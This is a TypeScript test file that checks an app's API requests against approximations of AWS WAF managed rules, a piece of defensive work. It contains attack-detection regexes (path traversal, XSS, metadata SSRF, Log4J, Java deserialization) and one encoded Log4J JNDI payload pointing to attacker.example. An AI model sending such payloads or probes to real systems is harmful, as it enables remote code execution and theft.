import { describe, expect, it } from 'vitest';
import type { Endpoint } from '#core/contract.ts';
import { api } from '#core/index.ts';
import { COUNTED_RULES } from '#infra/request-limits.ts';
import { requestOf } from '#web/lib/api/api.ts';
import { CONTRACT, type Sample, sampleOf } from '../contract/endpoints.ts';

/** What a kind of rule matches, as far as AWS says ("Baseline rule groups"). AWS keeps the exact patterns to itself, so these match rather too much. */
const PATTERNS: Readonly<Record<string, RegExp>> = {
  GenericLFI: /\.\.[/\\]/,
  GenericRFI: /(https?|ftps?|file):\/\/\d{1,3}(\.\d{1,3}){3}/i,
  RestrictedExtensions: /\.(log|ini|bak|backup|cfg|conf|config|dat|sql|sys|dll|exe|bat|sh|old|env|pem|key|db)\b/i,
  CrossSiteScripting: /<\s*\/?\s*(script|img|iframe|svg)|javascript:|\bon(error|load|click)\s*=/i,
  EC2MetaDataSSRF: /169\.254\.169\.254/,
  Log4JRCE: /\$\{\s*jndi:/i,
  JavaDeserializationRCE: /java\.lang\.(Runtime|ProcessBuilder)/i,
  ExploitablePaths: /web-inf|\.git\/|\/etc\/passwd/i,
};
/** The rules of the firewall that judge a text, by the part of the request: AWS has no others of these kinds. */
const RULES = {
  URIPATH: [
    ...['GenericLFI', 'GenericRFI', 'RestrictedExtensions', 'CrossSiteScripting', 'EC2MetaDataSSRF'],
    ...['Log4JRCE', 'JavaDeserializationRCE', 'ExploitablePaths'],
  ],
  QUERYARGUMENTS: ['GenericLFI', 'GenericRFI', 'RestrictedExtensions', 'CrossSiteScripting', 'EC2MetaDataSSRF'],
  QUERYSTRING: ['Log4JRCE', 'JavaDeserializationRCE'],
  BODY: ['GenericLFI', 'GenericRFI', 'CrossSiteScripting', 'EC2MetaDataSSRF', 'Log4JRCE', 'JavaDeserializationRCE'],
} as const;

/** The rules that match a request. */
function matching({ url, body = '' }: { url: string; body?: string }): string[] {
  const [path, query = ''] = url.split('?');
  const decodedQuery = [...new URLSearchParams(query)].flat().join('\n');
  const parts = {
    URIPATH: decodeURIComponent(path!),
    QUERYARGUMENTS: decodedQuery,
    QUERYSTRING: decodedQuery,
    BODY: body,
  };
  return Object.entries(RULES).flatMap(([part, kinds]) =>
    kinds.filter((kind) => PATTERNS[kind]!.test(parts[part as keyof typeof parts])).map((kind) => `${kind}_${part}`),
  );
}
const blocking = (endpoint: Endpoint, input: Sample) =>
  matching(requestOf(endpoint, input)).filter((rule) => !COUNTED_RULES.includes(rule));

const ticket = 'tickets/01JZ0000000000000000SVPP0T/00000000-0000-4000-8000-000000000220';
const receiver = {
  mcKey: 'center-1',
  version: 0,
  kind: 'webhook',
  second: '',
  accountPrefix: '',
  secret: '000102030405060708090a0b0c0d0e0f',
};
/** Input that people give, and the rule that takes it for an attack. */
const WRITTEN: readonly [rule: string, endpoint: Endpoint, input: Sample][] = [
  [
    'RestrictedExtensions_QUERYARGUMENTS',
    api.support.attachment,
    { TicketKey: '01JZ0000000000000000SVPP0T', file: `${ticket}/door.log` },
  ],
  ['GenericRFI_BODY', api['monitoring-centers'].setReceiver, { ...receiver, main: 'https://203.0.113.7/alarms' }],
  ['GenericLFI_URIPATH', api['user-settings'].checkOldPassword, { value: 'Salt../Pepper1' }],
  ['CrossSiteScripting_URIPATH', api['user-settings'].checkOldPassword, { value: 'Salt<script>1' }],
  ['RestrictedExtensions_URIPATH', api.users.nameTaken, { value: 'ann.log' }],
];

describe('the firewall', () => {
  it.each(CONTRACT.map(({ name, endpoint }) => [name, endpoint] as const))(
    'lets the sample of %s pass',
    (name, endpoint) => {
      expect(blocking(endpoint, sampleOf(name))).toEqual([]);
    },
  );

  it.each(WRITTEN)('only counts what people may write: %s', (rule, endpoint, input) => {
    expect(endpoint.input.safeParse(input).error).toBeUndefined();
    expect(matching(requestOf(endpoint, input))).toContain(rule);
    expect(blocking(endpoint, input)).toEqual([]);
  });

  it.each([
    ['query', '/api/units/all?filter=%24%7Bjndi:ldap://attacker.example/a%7D'],
    ['path', '/api/.git/config'],
  ])('still blocks known bad input in the %s', (_, url) => {
    expect(matching({ url }).filter((rule) => !COUNTED_RULES.includes(rule))).not.toEqual([]);
  });

  it('counts only rules that AWS has', () => {
    const ofCommonRules = Object.entries(RULES).flatMap(([part, kinds]) => kinds.map((kind) => `${kind}_${part}`));
    const known = [...ofCommonRules, 'SizeRestrictions_BODY', 'SizeRestrictions_QUERYSTRING'];
    expect(COUNTED_RULES.filter((rule) => !known.includes(rule))).toEqual([]);
  });
});
